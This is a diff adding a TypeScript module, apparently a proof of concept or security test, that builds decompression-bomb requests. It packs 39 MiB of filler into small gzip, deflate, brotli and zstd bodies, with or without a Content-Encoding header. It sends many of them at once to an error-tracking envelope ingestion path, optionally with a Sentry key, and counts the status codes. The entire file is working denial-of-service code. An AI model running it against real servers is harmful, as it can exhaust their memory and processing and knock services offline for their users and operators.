@@ -1,0 +1,47 @@
+import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
+
+const MEBIBYTE = 1024 * 1024;
+const DECOMPRESSED = 39 * MEBIBYTE;
+
+export interface CompressedAttack {
+  readonly origin: string;
+  readonly projectId: number;
+  /** Left out, the requests have no key. */
+  readonly key?: string;
+  readonly requests: number;
+}
+
+/** Everything that compresses, marked by Content-Encoding or not. */
+const compressions = [
+  { compress: gzipSync, encoding: undefined },
+  { compress: gzipSync, encoding: 'gzip' },
+  { compress: deflateSync, encoding: 'deflate' },
+  { compress: brotliCompressSync, encoding: 'br' },
+  { compress: zstdCompressSync, encoding: 'zstd' },
+] as const;
+
+/**
+ * Posts that hold 39 MB in 38 KB or less each, sent all at once to an ingestion path. Returns how often each status was answered.
+ */
+export async function sendCompressedBodies({ origin, projectId, key, requests }: CompressedAttack): Promise<Map<number, number>> {
+  const start = '{}\n{"type":"event"}\n{"message":"';
+  const plain = Buffer.concat([Buffer.from(start), Buffer.alloc(DECOMPRESSED, 'a')]);
+  const bodies = compressions.map(({ compress, encoding }) => ({
+    body: new Uint8Array(compress(plain)),
+    headers: {
+      ...(encoding === undefined ? {} : { 'Content-Encoding': encoding }),
+      ...(key === undefined ? {} : { 'X-Sentry-Auth': `Sentry sentry_version=7, sentry_key=${key}` }),
+    },
+  }));
+  const address = `${origin}/api/v4/error_tracking/collector/api/${projectId}/envelope/`;
+  const statuses = await Promise.all(
+    Array.from({ length: requests }, async (_, index) => {
+      const response = await fetch(address, { method: 'POST', ...bodies[index % bodies.length] });
+      await response.arrayBuffer();
+      return response.status;
+    }),
+  );
+  const counts = new Map<number, number>();
+  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
+  return counts;
+}
